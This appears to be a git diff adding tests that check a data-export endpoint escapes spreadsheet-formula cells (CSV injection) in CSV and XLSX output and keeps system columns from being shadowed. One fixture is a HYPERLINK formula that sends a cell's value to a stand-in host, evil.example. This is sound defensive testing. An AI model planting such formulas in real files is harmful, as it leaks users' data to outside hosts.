@@ -346,3 +346,113 @@ describe('export cursor', () => {
     }
   });
 });
+
+/**
+ * Cells a spreadsheet would evaluate (OWASP's CSV-injection rule: `=`, `+`, `-`, `@`, tab, CR first)
+ * and submitted fields named like the system columns, in both spreadsheet formats, on either database
+ * (on PostgreSQL the CSV rows are written by the database).
+ */
+describe('export: formula cells and system-column names', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")';
+  const record = {
+    link: HYPERLINK,
+    plus: '+1',
+    at: '@SUM(A1:A2)',
+    minus: '-x',
+    negative: -5,
+    tab: '\tx',
+    cr: '\rx',
+    plain: 'a-b=c',
+    '=evil': 'v',
+    id: 'fake-id',
+    createdAt: 'fake-date',
+  };
+
+  for (const raw of [false, true]) {
+    describe(raw ? 'EXPORT_RAW_CELLS=true' : 'by default', () => {
+      let t: TestApp;
+      let admin: string;
+      let configId: string;
+      let saved: { dataId: string; data: { createdAt: string } };
+      beforeAll(async () => {
+        t = await createTestApp(raw ? { env: { EXPORT_RAW_CELLS: 'true' } } : {});
+        admin = await adminToken(t);
+        configId = await createConfig(t, admin, { schema: null, validationRules: [], computedRules: [] });
+        const response = await t.request({
+          method: 'POST',
+          url: `/api/data/${configId}`,
+          token: admin,
+          payload: record,
+        });
+        expect(response.statusCode).toBe(201);
+        saved = response.json();
+      });
+      afterAll(() => t.close());
+
+      const download = (format: string) =>
+        t.request({ method: 'GET', url: `/api/data/${configId}/export?format=${format}`, token: admin });
+      const q = raw ? '' : "'";
+
+      it(`CSV: ${raw ? 'values and field names as stored' : "strings and field names a spreadsheet would evaluate get a leading '"}, a -5 number stays -5, fields named id and createdAt are headed data.id and data.createdAt`, async () => {
+        const response = await download('csv');
+        expect(response.statusCode).toBe(200);
+        expect(response.body).toBe(
+          `id,createdAt,link,plus,at,minus,negative,tab,cr,plain,${q}=evil,data.id,data.createdAt\n` +
+            `${saved.dataId},${saved.data.createdAt},"${q}=HYPERLINK(""http://evil.example/?d=""&A2,""x"")",` +
+            `${q}+1,${q}@SUM(A1:A2),${q}-x,-5,${q}\tx,"${q}\rx",a-b=c,v,fake-id,fake-date`,
+        );
+        // A reader keyed by header finds the record's own id and time under id and createdAt.
+        const [row] = parse<Record<string, string>>(response.body, { columns: true });
+        expect(row).toMatchObject({
+          id: saved.dataId,
+          createdAt: saved.data.createdAt,
+          'data.id': 'fake-id',
+        });
+      });
+
+      it(`XLSX: the same cells${raw ? ' as stored' : ", with the leading '"}; -5 a number; the localized system headers not shadowed`, async () => {
+        const response = await download('excel');
+        expect(response.statusCode).toBe(200);
+        const workbook = new ExcelJS.Workbook();
+        await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+        const sheet = workbook.getWorksheet('Data')!;
+        expect(sheet.getRow(1).values).toEqual([
+          undefined,
+          'ID',
+          'Created at',
+          'link',
+          'plus',
+          'at',
+          'minus',
+          'negative',
+          'tab',
+          'cr',
+          'plain',
+          `${q}=evil`,
+          'data.id',
+          'data.createdAt',
+        ]);
+        expect(sheet.getRow(2).values).toEqual([
+          undefined,
+          saved.dataId,
+          new Date(saved.data.createdAt),
+          `${q}${HYPERLINK}`,
+          `${q}+1`,
+          `${q}@SUM(A1:A2)`,
+          `${q}-x`,
+          -5,
+          `${q}\tx`,
+          // exceljs writes the CR as it is, and an XML reader reads a bare CR as LF.
+          `${q}\nx`,
+          'a-b=c',
+          'v',
+          'fake-id',
+          'fake-date',
+        ]);
+        // Text cells, never formulas, whichever the switch.
+        for (let column = 3; column <= 14; column++)
+          expect(sheet.getRow(2).getCell(column).type).not.toBe(ExcelJS.ValueType.Formula);
+      });
+    });
+  }
+});
